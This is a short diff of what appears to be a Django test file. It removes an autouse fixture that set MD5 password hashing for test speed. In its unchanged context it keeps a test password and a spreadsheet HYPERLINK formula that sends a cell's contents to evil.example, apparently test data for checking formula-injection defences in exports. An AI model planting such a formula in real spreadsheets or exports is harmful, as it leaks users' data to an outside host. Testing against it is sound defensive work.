@@ -32,11 +32,6 @@ PASSWORD = "correct horse battery staple"  # UserFactory's
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 
 
-@pytest.fixture(autouse=True)
-def _fast_password_hashing(settings):
-    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
-
-
 # --- A small world: two learners and an anonymous one, each with their own data ----------
 
 
